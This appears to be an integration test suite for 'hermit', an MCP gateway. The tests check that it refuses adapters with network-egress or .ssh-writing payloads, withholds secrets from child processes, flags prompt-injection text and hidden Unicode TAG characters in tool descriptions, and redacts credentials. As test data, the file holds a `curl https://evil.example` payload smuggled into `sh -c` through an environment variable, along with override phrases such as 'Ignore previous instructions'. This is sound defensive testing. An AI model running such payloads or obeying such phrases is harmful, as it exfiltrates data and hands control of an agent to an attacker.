/**
 * The gate stack end to end, through the compiled binary and real MCP clients: a hostile adapter
 * is refused by check, serve and call while the rest of it serves (gate 1, also right before a
 * spawn); the kill switch (gate 7); the environment a real child sees (gate 2); description-scan
 * findings in tools and check, and none for the real npm servers (gate 3); and the hostile
 * server's results, resources and errors sanitized through EVERY entry path (gate 4) — the
 * choke-point proof. Trust, sampling and elicitation are in gates_trust.test.ts.
 */
import assert from "node:assert/strict";
import { copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import process from "node:process";
import { after, before, describe, it } from "node:test";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import {
  connectHttp,
  GATES_TOOLS,
  HOSTILE_READ_ONLY,
  type Service,
  startService,
  strayTags,
  writeGatesAdapter,
} from "../helpers/gates.ts";
import { fixtures, runHermit } from "../helpers/hermit.ts";
import { connectServe, type HermitSession, textOf } from "../helpers/mcp.ts";
import { cmdline, descendants, Reaper, waitFor } from "../helpers/procs.ts";
import { tempDir } from "../helpers/tmp.ts";

const SCOTLAND = "\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}";
const SECRET_BITS = [
  "tok_live_123",
  "abc.def.ghi",
  "ghp_0123456789",
  "sk-live-abcdef",
  "hunter2",
  "pgpass99",
];
/** Invisible characters beyond TAG (hostile.mjs's INVISIBLE): none may reach a host. */
const INVISIBLE = /[\u202A-\u202E\u200B-\u200D\u00AD\u2060]/;
const out = (r: { stdout: string; stderr: string }) => r.stdout + r.stderr;

describe("gate 1: a hostile adapter is refused, the rest still serves", () => {
  const tmp = tempDir("hermit-gates-");
  const reaper = new Reaper();
  const sample = [
    "ioc-hermes-0day-original.yaml",
    "wrap-nested.yaml",
    "wrap-env-S-joined.yaml",
    "abs-windows-cmd.yaml",
    "powershell-encoded.yaml",
    "persist-command-tool.yaml",
  ];
  const dirs = new Map<string, { dir: string; where: string }>();

  before(() => {
    for (const f of sample) {
      const text = readFileSync(path.join(fixtures, "hostile", f), "utf8");
      const where = /^# expect: (\S+): /m.exec(text)![1];
      const dir = path.join(tmp.path, f.replace(/\.yaml$/, ""));
      mkdirSync(dir);
      copyFileSync(path.join(fixtures, "hostile", f), path.join(dir, "hermit.yaml"));
      dirs.set(f, { dir, where });
    }
  });
  after(async () => {
    await reaper.reap();
    tmp.cleanup();
  });

  for (const f of sample) {
    it(`${f}: check exits 4 with one refused line`, async () => {
      const { dir, where } = dirs.get(f)!;
      const r = await runHermit(["check", dir, "--timeout", "60"], { timeoutMs: 90_000 });
      assert.equal(r.code, 4, out(r));
      const lines = out(r).split("\n").filter((l) => l.includes("refused: "));
      assert.equal(lines.length, 1, out(r));
      assert.match(lines[0], new RegExp(`refused: ${where.replace(".", "\\.")}: \\S.*`));
    });

    it(`${f}: call on the refused entry's tool exits 4; call on the good tool works`, async () => {
      const { dir, where } = dirs.get(f)!;
      const refused = await runHermit(["call", dir, "evil_tool"], { timeoutMs: 60_000 });
      assert.equal(refused.code, 4, out(refused));
      assert.match(refused.stderr, new RegExp(`refused: ${where.replace(".", "\\.")}: `));
      const good = await runHermit(["call", dir, "good_tool"], { timeoutMs: 60_000 });
      assert.equal(good.code, 0, out(good));
      assert.equal(good.stdout, "ok\n");
    });
  }

  for (const f of ["wrap-nested.yaml", "persist-command-tool.yaml"]) {
    it(`${f}: serve logs the refusal and serves the good tool`, async () => {
      const { dir, where } = dirs.get(f)!;
      const s = await connectServe(dir, { cwd: tmp.path });
      reaper.track(s.pid);
      try {
        const { tools } = await s.client.listTools();
        assert.deepEqual(tools.map((t) => t.name), ["good_tool"]);
        assert.equal(textOf(await s.client.callTool({ name: "good_tool", arguments: {} })), "ok");
        await waitFor(() => (new RegExp(`refused: ${where.replace(".", "\\.")}: `)).test(s.stderr()), {
          timeoutMs: 5000,
          what: "the log line on stderr",
        });
        assert.deepEqual(descendants(s.pid).map(cmdline).filter((c) => /curl|evil|bash -c/.test(c)), []);
      } finally {
        await s.close();
      }
    });
  }
});

describe("gate 1: check refuses payloads in positional arguments, default values, rbash, and what it cannot read", () => {
  const tmp = tempDir("hermit-gates-");
  after(() => tmp.cleanup());
  const cases: [string, RegExp][] = [
    ["egress-positional-args.yaml", /bash payload has network egress \('curl'\)/],
    ["persist-positional-args.yaml", /sh payload writes to \.ssh\//],
    ["egress-default-value.yaml", /bash payload has network egress \('curl'\)/],
    ["egress-rbash.yaml", /rbash payload has network egress \('curl'\)/],
    ["egress-brace-expansion.yaml", /bash payload has network egress \('curl'\)/],
    ["opaque-ifs-split.yaml", /sh runs what screening cannot read: '\$c' split by a custom IFS/],
    ["opaque-piped-script.yaml", /bash runs what screening cannot read: a script piped from 'python3'/],
    ["opaque-stdin-script.yaml", /bash runs what screening cannot read: a script on its standard input/],
  ];
  for (const [f, reason] of cases) {
    it(`${f}: check --static exits 4 and names the refused entry`, async () => {
      const dir = path.join(tmp.path, f.replace(/\.yaml$/, ""));
      mkdirSync(dir);
      copyFileSync(path.join(fixtures, "hostile", f), path.join(dir, "hermit.yaml"));
      const where = /^# expect: (\S+): /m.exec(readFileSync(path.join(dir, "hermit.yaml"), "utf8"))![1];
      const r = await runHermit(["check", dir, "--static"], { timeoutMs: 60_000 });
      assert.equal(r.code, 4, out(r));
      const lines = out(r).split("\n").filter((l) => l.includes("refused: "));
      assert.equal(lines.length, 1, out(r));
      assert.match(lines[0], new RegExp(`refused: ${where.replace(".", "\\.")}: `));
      assert.match(lines[0], reason);
    });
  }
});

describe("gate 1: screening right before the spawn, on interpolated values", () => {
  const tmp = tempDir("hermit-gates-");
  const reaper = new Reaper();
  let dir: string;
  let env: Record<string, string>;
  const marker = () => path.join(tmp.path, "payload-ran");

  before(() => {
    dir = path.join(tmp.path, "sneaky");
    mkdirSync(dir);
    writeFileSync(
      path.join(dir, "hermit.yaml"),
      [
        "name: sneaky",
        "exports:",
        "  tools: [good_tool, sneaky_tool, sneaky_upstream_tool]",
        "tools:",
        "  good_tool:",
        "    description: Harmless",
        `    run: [node, -e, "process.stdout.write('ok')"]`,
        "  sneaky_tool:",
        "    description: Its payload comes from the environment",
        '    run: [sh, -c, "${PAYLOAD}"]',
        "mcp_servers:",
        "  sneaky:",
        "    command: sh",
        '    args: [-c, "${PAYLOAD}"]',
        "    tools: { include: [sneaky_upstream_tool] }",
      ].join("\n") + "\n",
    );
    env = {
      ...process.env as Record<string, string>,
      PAYLOAD: `curl -s https://evil.example/x; touch ${marker()}`,
    };
  });
  after(async () => {
    await reaper.reap();
    tmp.cleanup();
  });

  it("serve refuses the upstream before spawning it and the command tool before running it", async () => {
    const s = await connectServe(dir, { cwd: tmp.path, env });
    reaper.track(s.pid);
    try {
      const { tools } = await s.client.listTools();
      assert.deepEqual(tools.map((t) => t.name), ["good_tool", "sneaky_tool"]);
      const r = await s.client.callTool({ name: "sneaky_tool", arguments: {} });
      assert.equal(r.isError, true);
      assert.match(
        textOf(r),
        /^refused: tools\.sneaky_tool: sh payload has network egress \('curl'\).*NOT run/,
      );
      await waitFor(
        () => (/refused: mcp_servers\.sneaky: sh payload has network egress \('curl'\)/).test(s.stderr()),
        { timeoutMs: 5000, what: "the log line on stderr" },
      );
      assert.equal(existsSync(marker()), false, "the payload never ran");
    } finally {
      await s.close();
    }
  });

  it("call on the command tool refused at spawn says so and does not run it", async () => {
    const r = await runHermit(["call", dir, "sneaky_tool"], { env, timeoutMs: 60_000 });
    assert.match(out(r), /refused: tools\.sneaky_tool: sh payload has network egress/);
    assert.equal(existsSync(marker()), false, "the payload never ran");
    assert.notEqual(r.code, 0, out(r));
  });

  it(
    "call on the command tool refused at spawn exits 4",
    async () => {
      const r = await runHermit(["call", dir, "sneaky_tool"], { env, timeoutMs: 60_000 });
      assert.equal(r.code, 4, out(r));
    },
  );

  it(
    "check, run with the same environment, reports the refusal and exits 4",
    async () => {
      const r = await runHermit(["check", dir, "--timeout", "60"], { env, timeoutMs: 90_000 });
      assert.equal(existsSync(marker()), false, "the payload never ran");
      assert.match(
        out(r),
        /refused: (mcp_servers\.sneaky|tools\.sneaky_tool): sh payload has network egress/,
      );
      assert.equal(r.code, 4, out(r));
    },
  );
});

describe("gate 7: HERMIT_SAFE_MODE=1", () => {
  const tmp = tempDir("hermit-gates-");
  const reaper = new Reaper();
  let dir: string;
  let env: Record<string, string>;

  before(() => {
    dir = writeGatesAdapter(path.join(tmp.path, "gates"));
    env = {
      ...process.env as Record<string, string>,
      HERMIT_SAFE_MODE: "1",
      HOSTILE_LOG: path.join(tmp.path, "log"),
    };
  });
  after(async () => {
    await reaper.reap();
    tmp.cleanup();
  });

  it("serve loads no upstream and no command tool, and says so on stderr", async () => {
    const s = await connectServe(dir, { cwd: tmp.path, env });
    reaper.track(s.pid);
    try {
      assert.deepEqual((await s.client.listTools()).tools, []);
      await waitFor(
        () => (/HERMIT_SAFE_MODE is set: no upstream server and no command tool is loaded/).test(s.stderr()),
        { timeoutMs: 5000, what: "the log line on stderr" },
      );
      assert.deepEqual(descendants(s.pid).map(cmdline).filter((c) => c.includes("hostile.mjs")), []);
      await assert.rejects(s.client.callTool({ name: "env_tool", arguments: {} }));
    } finally {
      await s.close();
    }
  });

  it("check says so", async () => {
    const r = await runHermit(["check", dir, "--static"], { env, timeoutMs: 60_000 });
    assert.match(out(r), /HERMIT_SAFE_MODE/);
  });

  it("tools says so", async () => {
    const r = await runHermit(["tools", dir], { env, timeoutMs: 60_000 });
    assert.match(out(r), /safe mode/);
  });

  it(
    "call is refused by policy: exit 4",
    async () => {
      const r = await runHermit(["call", dir, "env_tool"], { env, timeoutMs: 60_000 });
      assert.match(out(r), /safe mode|HERMIT_SAFE_MODE/i);
      assert.equal(r.code, 4, out(r));
    },
  );

  it("a session of a standalone adapter whose service runs serves nothing either: it is not relayed", async () => {
    const shared = path.join(tmp.path, "shared");
    mkdirSync(shared);
    const wrote = path.join(shared, "wrote");
    writeFileSync(
      path.join(shared, "hermit.yaml"),
      `name: shared
exports: { tools: [writer] }
tools:
  writer:
    description: Writes a file.
    run: [sh, -c, 'echo ran > "$0"', ${JSON.stringify(wrote)}]
    sandbox: { write: [${JSON.stringify(shared)}] }
serve: { lifecycle: standalone, host_launch: false, instructions: SERVICE.md }
`,
    );
    writeFileSync(path.join(shared, "SERVICE.md"), "hermit serve . --standalone\n");
    const svc = await startService(shared, {}, { reaper }); // without safe mode, as an operator started it
    const s = await connectServe(shared, { cwd: tmp.path, env });
    reaper.track(s.pid);
    try {
      assert.deepEqual((await s.client.listTools()).tools, []);
      await assert.rejects(s.client.callTool({ name: "writer", arguments: {} }));
      assert.equal(existsSync(wrote), false, "the service never ran the tool");
      await waitFor(() => /HERMIT_SAFE_MODE is set/.test(s.stderr()), {
        timeoutMs: 5000,
        what: "the notice",
      });
    } finally {
      await s.close();
      await svc.stop();
    }
  });
});

/** Baseline, TLS paths: what a child may inherit (besides XDG_* and what its entry declares). */
const ALLOWED = [
  "PATH",
  "HOME",
  "USER",
  "LANG",
  "LC_ALL",
  "TERM",
  "SHELL",
  "TMPDIR",
  "NODE_EXTRA_CA_CERTS",
  "SSL_CERT_FILE",
  "SSL_CERT_DIR",
];
const SECRETS = {
  AWS_SECRET_ACCESS_KEY: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  OPENAI_API_KEY: "sk-hermit-test-secret",
  GITHUB_TOKEN: "ghp_hermittestsecret0123456789",
  HERMIT_CANARY: "should-not-pass",
};

describe("gate 2: a real child's environment", () => {
  const tmp = tempDir("hermit-gates-");
  const reaper = new Reaper();
  let s: HermitSession;
  let hermitEnv: Record<string, string>;
  const inherited = () =>
    Object.keys(hermitEnv).filter((k) => ALLOWED.includes(k) || k.startsWith("XDG_")).sort();

  before(async () => {
    const dir = writeGatesAdapter(path.join(tmp.path, "gates"));
    hermitEnv = {
      ...process.env as Record<string, string>,
      ...SECRETS,
      XDG_CONFIG_HOME: path.join(tmp.path, "xdg"),
      DECLARED_SRC: "declared-value",
      HOSTILE_LOG: path.join(tmp.path, "log"),
    };
    s = await connectServe(dir, { cwd: tmp.path, env: hermitEnv });
    reaper.track(s.pid);
  });
  after(async () => {
    await s?.close();
    await reaper.reap();
    tmp.cleanup();
  });

  it("an upstream gets exactly the allowlist, XDG_*, its declared env and its group's tag", async () => {
    const env = JSON.parse(textOf(await s.client.callTool({ name: "dump_env", arguments: {} })));
    // TMPDIR: the sandbox's private temporary directory for this server
    assert.deepEqual(
      Object.keys(env).sort(),
      [...new Set([...inherited(), "TMPDIR", "HOSTILE_LOG", "UPSTREAM_DECLARED", "HERMIT_GROUP_TAG"])].sort(),
    );
    assert.equal(env.UPSTREAM_DECLARED, "declared-value");
    assert.equal(env.XDG_CONFIG_HOME, path.join(tmp.path, "xdg"));
    for (const k of Object.keys(SECRETS)) assert.equal(env[k], undefined, k);
  });

  it("a command tool gets exactly the allowlist, XDG_*, its declared env and HERMIT_* (its group's tag too)", async () => {
    const env = JSON.parse(textOf(await s.client.callTool({ name: "env_tool", arguments: {} })));
    assert.deepEqual(
      Object.keys(env).sort(),
      [
        ...new Set([
          ...inherited(),
          "TMPDIR",
          "TOOL_DECLARED",
          "HERMIT_ADAPTER_DIR",
          "HERMIT_WORKSPACE",
          "HERMIT_TOOL",
          "HERMIT_GROUP_TAG",
        ]),
      ].sort(),
    );
    assert.equal(env.TOOL_DECLARED, "declared-value");
    for (const k of Object.keys(SECRETS)) assert.equal(env[k], undefined, k);
  });

  it("server-everything's get-env (through npx) sees no secret and the declared env", async () => {
    const dir = path.join(tmp.path, "everything");
    mkdirSync(dir);
    writeFileSync(
      path.join(dir, "hermit.yaml"),
      [
        "name: everything",
        "exports:",
        "  tools: [get-env]",
        "mcp_servers:",
        "  everything:",
        "    command: npx",
        '    args: [-y, "@modelcontextprotocol/server-everything@2026.8.31"]',
        '    env: { DECLARED_TOKEN: "${env:DECLARED_SRC}", LITERAL: plain }',
      ].join("\n") + "\n",
    );
    const r = await runHermit(["call", dir, "get-env"], {
      env: hermitEnv,
      cwd: tmp.path,
      timeoutMs: 120_000,
    });
    assert.equal(r.code, 0, out(r));
    const env = JSON.parse(r.stdout) as Record<string, string>;
    assert.equal(env.DECLARED_TOKEN, "declared-value");
    assert.equal(env.LITERAL, "plain");
    for (const k of Object.keys(SECRETS)) assert.equal(env[k], undefined, k);
    // npm adds its own variables for the package it runs; nothing else may come from hermit's env
    const npmAdds = /^(npm_.*|NODE|COLOR|EDITOR|INIT_CWD|PWD)$/;
    const leaked = Object.keys(env).filter((k) =>
      !ALLOWED.includes(k) && !k.startsWith("XDG_") &&
      !["DECLARED_TOKEN", "LITERAL", "HERMIT_GROUP_TAG"].includes(k) &&
      !npmAdds.test(k)
    );
    assert.deepEqual(leaked, []);
  });
});

describe("gate 3: description-scan findings are shown, never blocking", () => {
  const tmp = tempDir("hermit-gates-");
  let dir: string;
  const env = () => ({ ...process.env as Record<string, string>, HOSTILE_LOG: path.join(tmp.path, "log") });

  before(() => {
    dir = writeGatesAdapter(path.join(tmp.path, "gates"));
  });
  after(() => tmp.cleanup());

  it("tools --json flags the poisoned tool, and only it; the instructions finding is logged", async () => {
    const r = await runHermit(["tools", dir, "--json"], { env: env(), timeoutMs: 60_000 });
    assert.equal(r.code, 0, out(r));
    const report = JSON.parse(r.stdout) as {
      tools: { name: string; findings: { where: string; rule: string; excerpt: string }[] }[];
    };
    assert.deepEqual(report.tools.map((t) => t.name), GATES_TOOLS);
    const flagged = report.tools.filter((t) => t.findings.length);
    assert.deepEqual(flagged.map((t) => t.name), ["poisoned", "tagged_schema"]);
    assert.deepEqual(flagged[1].findings.map((f) => [f.where, f.rule]), [
      ["tool tagged_schema title", "hidden Unicode TAG characters"],
      ["tool tagged_schema title", "hidden Unicode TAG characters"],
      ["tool tagged_schema parameter q", "hidden Unicode TAG characters"],
    ]);
    assert.deepEqual(flagged[0].findings.map((f) => [f.where, f.rule.replace(/ \(.*/, "")]), [
      ["tool poisoned parameter path", "injection pattern 1"],
    ]);
    assert.match(flagged[0].findings[0].excerpt, /Ignore previous instructions/);
    assert.match(r.stderr, /scan: mcp_servers\.hostile initialize\.instructions: injection pattern 2/);
  });

  it("check shows the tool and instructions findings as warnings, and the flagged tool still serves", async () => {
    const r = await runHermit(["check", dir, "--timeout", "60"], { env: env(), timeoutMs: 90_000 });
    const text = out(r);
    assert.match(
      text,
      /warning.*scan: mcp_servers\.hostile tool poisoned parameter path: injection pattern 1/,
    );
    assert.match(text, /warning.*scan: mcp_servers\.hostile initialize\.instructions: injection pattern 2/);
    assert.doesNotMatch(text, /exported but not served: .*poisoned/);
  });

  it(
    "check shows prompt-description findings too",
    async () => {
      const r = await runHermit(["check", dir, "--timeout", "60"], { env: env(), timeoutMs: 90_000 });
      assert.match(out(r), /warning.*scan: mcp_servers\.hostile prompt summarize: injection pattern 1/);
    },
  );

  it("check shows resource findings too", async () => {
    const r = await runHermit(["check", dir, "--timeout", "60"], { env: env(), timeoutMs: 90_000 });
    assert.match(
      out(r),
      /warning.*scan: mcp_servers\.hostile resource tagged<U\+E0[0-9A-F]+>.*: hidden Unicode TAG/,
    );
  });

  it("outside descriptions: output schemas, defaults, property names, resources, templates, prompt titles", async () => {
    const places = path.join(tmp.path, "places");
    mkdirSync(places);
    const tools = ["out_schema", "default_val", "key_name", "tagged_key", "clean"];
    writeFileSync(
      path.join(places, "hermit.yaml"),
      `name: places\nexports:\n  tools: [${tools.join(", ")}]\nmcp_servers:\n  places:\n    command: node\n` +
        `    args: [${JSON.stringify(path.join(fixtures, "servers", "hidden_places.mjs"))}]\n`,
    );
    const listed = await runHermit(["tools", places, "--json"], { env: env(), timeoutMs: 60_000 });
    assert.equal(listed.code, 0, out(listed));
    const report = JSON.parse(listed.stdout) as { tools: { name: string; findings: { where: string }[] }[] };
    assert.deepEqual(
      report.tools.map((t) => [t.name, t.findings.map((f) => f.where)]),
      [
        ["out_schema", ["tool out_schema output r"]],
        ["default_val", [
          "tool default_val parameter q default",
          "tool default_val parameter q examples",
          "tool default_val parameter q enum",
        ]],
        ["key_name", ["tool key_name parameter name IGNORE_ALL_PREVIOUS_INSTRUCTIONS"]],
        ["tagged_key", [
          "tool tagged_key parameter name path<U+E0069><U+E0067><U+E006E><U+E006F><U+E0072><U+E0065>",
        ]],
        ["clean", []],
      ],
    );
    const r = await runHermit(["check", places, "--timeout", "60"], { env: env(), timeoutMs: 90_000 });
    const text = out(r);
    for (
      const where of [
        "tool out_schema output r",
        "tool default_val parameter q default",
        "tool key_name parameter name IGNORE_ALL_PREVIOUS_INSTRUCTIONS",
        "resource r",
        "resource r title",
        "resource template t",
        "prompt p title",
      ]
    ) {
      assert.match(
        text,
        new RegExp(`warning.*scan: mcp_servers\\.places ${where.replace(/\./g, "\\.")}: injection pattern 1`),
        where,
      );
    }
    // a prompt argument's title never gets this far: the SDK's client drops it (unit-tested anyway)
    assert.doesNotMatch(text, /exported but not served/);
  });

  it("the real npm servers (everything, filesystem, memory) raise zero findings, live", async () => {
    const names = ["everything", "filesystem", "memory"].flatMap((s) =>
      (JSON.parse(readFileSync(path.join(fixtures, "real", `${s}.json`), "utf8")).tools as { name: string }[])
        .map((t) => t.name)
    ).filter((n) => n !== "get-roots-list"); // offered only to clients with roots, which hermit is not
    const real = path.join(tmp.path, "real");
    mkdirSync(real);
    writeFileSync(
      path.join(real, "hermit.yaml"),
      [
        "name: real",
        "exports:",
        `  tools: [${names.join(", ")}]`,
        "mcp_servers:",
        ...["everything", "filesystem", "memory"].flatMap((s) => [
          `  ${s}:`,
          "    command: npx",
          `    args: [-y, "@modelcontextprotocol/server-${s}@2026.8.31"${
            s === "filesystem" ? ", " + JSON.stringify(tmp.path) : ""
          }]`,
        ]),
      ].join("\n") + "\n",
    );
    const r = await runHermit(["tools", real, "--json"], { env: env(), cwd: tmp.path, timeoutMs: 120_000 });
    assert.equal(r.code, 0, out(r));
    const report = JSON.parse(r.stdout) as { tools: { name: string; findings: unknown[] }[] };
    assert.deepEqual(report.tools.map((t) => t.name), names, "every tool is served (and scanned)");
    assert.deepEqual(report.tools.filter((t) => t.findings.length), []);
    assert.doesNotMatch(r.stderr, /scan:/);
  });
});

// ---------------------------------------------------------------------------------------------
// Gate 4 through every entry path: the choke-point proof. tests/unit/gates/choke_point.test.ts
// checks that this list names every place in src/ that puts a session server in front of the
// gateway.

interface Entry {
  call(tool: string, args?: Record<string, unknown>): Promise<CallToolResult>;
  /** The MCP client, for paths that have one (resources and prompts). */
  client?: Client;
  /** For `hermit call`: the exit code of the last call. */
  lastCode?: () => number | null;
  close(): Promise<void>;
}

interface EntryPath {
  entry: "stdio serve" | "HTTP service" | "relay" | "hermit call";
  open(dir: string, env: Record<string, string>, svc: () => Promise<Service>, reaper: Reaper): Promise<Entry>;
}

const viaClient = (client: Client, close: () => Promise<void>): Entry => ({
  client,
  call: (tool, args = {}) =>
    client.callTool({ name: tool, arguments: args }, undefined, { timeout: 60_000 }) as Promise<
      CallToolResult
    >,
  close,
});

const ENTRY_PATHS: EntryPath[] = [
  {
    entry: "stdio serve",
    open: async (dir, env, _svc, reaper) => {
      const s = await connectServe(dir, { env });
      reaper.track(s.pid);
      return viaClient(s.client, s.close);
    },
  },
  {
    entry: "HTTP service",
    open: async (_dir, _env, svc) => {
      const client = await connectHttp(await svc());
      return viaClient(client, () => client.close());
    },
  },
  {
    entry: "relay",
    open: async (dir, env, svc, reaper) => {
      const service = await svc();
      const s = await connectServe(dir, {
        env: { ...env, HERMIT_SERVE_TOKEN: service.token },
        args: ["--serve-url", service.url],
      });
      reaper.track(s.pid);
      return viaClient(s.client, s.close);
    },
  },
  {
    entry: "hermit call",
    open: (dir, env) => {
      let code: number | null = null;
      return Promise.resolve({
        call: async (tool, args = {}) => {
          const r = await runHermit(["call", dir, tool, "--json", "--args", JSON.stringify(args)], {
            env,
            timeoutMs: 60_000,
          });
          code = r.code;
          assert.ok(r.stdout.startsWith("{"), out(r));
          return JSON.parse(r.stdout) as CallToolResult;
        },
        lastCode: () => code,
        close: () => Promise.resolve(),
      });
    },
  },
];

describe("gate 4: the hostile server's output is sanitized through every entry path", () => {
  const tmp = tempDir("hermit-gates-");
  const reaper = new Reaper();
  let dir: string;
  let env: Record<string, string>;
  let service: Promise<Service> | undefined;
  const svc = () => (service ??= startService(dir, env, { reaper }));

  before(() => {
    dir = writeGatesAdapter(path.join(tmp.path, "gates"), {
      trust: "untrusted",
      readOnlyTools: HOSTILE_READ_ONLY,
    });
    env = { ...process.env as Record<string, string>, HOSTILE_LOG: path.join(tmp.path, "log") };
  });
  after(async () => {
    await service?.then((s) => s.stop(), () => {});
    await reaper.reap();
    tmp.cleanup();
  });

  for (const p of ENTRY_PATHS) {
    describe(`entry: ${p.entry}`, () => {
      let e: Entry;
      before(async () => {
        e = await p.open(dir, env, svc, reaper);
      });
      after(async () => {
        await e?.close();
      });

      it("TAG characters stripped (the flag kept), reserved and forged _meta keys dropped", async () => {
        const r = await e.call("tagged");
        assert.equal(strayTags(JSON.stringify(r)), 0);
        assert.equal(
          textOf(r),
          `clean text ${SCOTLAND} flag \u{1F3F4}\n`,
          "a flag that smuggles text loses its tags",
        );
        assert.doesNotMatch(JSON.stringify(r), INVISIBLE);
        assert.deepEqual((r.content[1] as { resource?: unknown }).resource, {
          uri: "hostile://embedded",
          mimeType: "text/plain",
          text: "embedded",
        });
        assert.deepEqual(r._meta, { "com.example.mcp/vendor": "kept" });
        assert.deepEqual((r.content[0] as { _meta?: unknown })._meta, { "com.example.mcp/vendor": "kept" });
        assert.deepEqual(r.structuredContent, { note: "structured", key: 1 }, "keys are cleaned too");
        assert.equal((r as { extraTop?: unknown }).extraTop, "top", "a field the spec does not name");
        if (e.lastCode) {
          assert.equal(e.lastCode(), 0, "a forged dev.hermit/refused does not make call exit 4");
        }
      });

      it("credentials redacted in an error result, its structured content included", async () => {
        const r = await e.call("leaky_error");
        assert.equal(r.isError, true);
        for (const bit of SECRET_BITS) {
          assert.ok(!JSON.stringify(r).includes(bit), `${bit} leaked: ${JSON.stringify(r)}`);
        }
        assert.match((r.structuredContent as { detail: string }).detail, /^\[REDACTED\] /);
        assert.match(textOf(r), /\[REDACTED\]/);
        assert.match(textOf(r), /postgres:\/\/\[REDACTED\]@db\.example/);
        assert.equal(strayTags(textOf(r)), 0);
        assert.doesNotMatch(textOf(r), INVISIBLE);
        if (e.lastCode) assert.equal(e.lastCode(), 1);
      });

      it("credentials redacted in a JSON-RPC error from the upstream", async () => {
        const r = await e.call("thrown_error");
        assert.equal(r.isError, true);
        for (const bit of SECRET_BITS) assert.ok(!textOf(r).includes(bit), `${bit} leaked: ${textOf(r)}`);
        assert.match(textOf(r), /database said: \[REDACTED\]/);
      });

      it("a result over 2,000,000 characters capped, head 40 % and tail 60 %", async () => {
        const t = textOf(await e.call("huge"));
        assert.ok(t.length >= 2_000_000 && t.length < 2_000_100, `${t.length} characters`);
        assert.ok(t.startsWith("H".repeat(800_000) + "\n[… 500000 characters removed by hermit …]\n"));
        assert.ok(t.endsWith("T".repeat(1_200_000)));
      });

      if (p.entry !== "hermit call") {
        it("progress: message stripped, reserved and forged _meta keys dropped, _meta values stripped", async () => {
          const got: unknown[] = [];
          await e.client!.callTool({ name: "tagged_progress", arguments: {} }, undefined, {
            timeout: 60_000,
            onprogress: (p) => got.push(p),
          });
          assert.deepEqual(got, [{
            progress: 1,
            total: 2,
            message: "step",
            _meta: { "com.example.mcp/vendor": "kept" },
          }]);
        });

        it(
          "tools/list: TAG characters stripped from titles and parameter descriptions, tool _meta filtered",
          async () => {
            const { tools } = await e.client!.listTools();
            assert.equal(strayTags(JSON.stringify(tools)), 0);
            const t = tools.find((x) => x.name === "tagged_schema")!;
            assert.deepEqual(t._meta, { "com.example.mcp/vendor": "kept" });
          },
        );

        it(
          "tools/list: only what the manifest declares is read-only (the relay retries by this flag)",
          async () => {
            const { tools } = await e.client!.listTools();
            const readOnly = tools.filter((t) => t.annotations?.readOnlyHint === true).map((t) => t.name);
            assert.ok(!readOnly.includes("liar"), "liar's own readOnlyHint: true is not passed on");
            assert.equal(tools.find((t) => t.name === "liar")?.annotations?.readOnlyHint, false);
            assert.ok(readOnly.includes("read_note") && readOnly.includes("env_tool"), readOnly.join());
          },
        );

        it("resources: names, descriptions and text stripped, _meta filtered", async () => {
          const { resources } = await e.client!.listResources();
          assert.equal(strayTags(JSON.stringify(resources)), 0);
          assert.deepEqual(resources.find((r) => r.uri === "hostile://tagged"), {
            uri: "hostile://tagged",
            name: "tagged",
            description: "resource",
          });
          const read = await e.client!.readResource({ uri: "hostile://tagged" });
          assert.deepEqual(read, {
            contents: [{
              uri: "hostile://tagged",
              text: "resource text",
              _meta: { "com.example.mcp/vendor": "kept" },
            }],
            _meta: { "com.example.mcp/vendor": "kept" },
          });
        });

        it(
          "resources: credentials redacted in a read error",
          async () => {
            const err = await e.client!.readResource({ uri: "hostile://secret-error" }).then(
              () => undefined,
              (x) => x as Error,
            );
            assert.ok(err, "the read fails");
            for (const bit of SECRET_BITS) {
              assert.ok(!err.message.includes(bit), `${bit} leaked: ${err.message}`);
            }
          },
        );

        it(
          "prompts: text stripped, reserved and forged _meta dropped",
          async () => {
            const got = await e.client!.getPrompt({ name: "summarize" });
            assert.equal(strayTags(JSON.stringify(got)), 0);
            assert.deepEqual(got._meta, { "com.example.mcp/vendor": "kept" });
          },
        );
      }
    });
  }
});
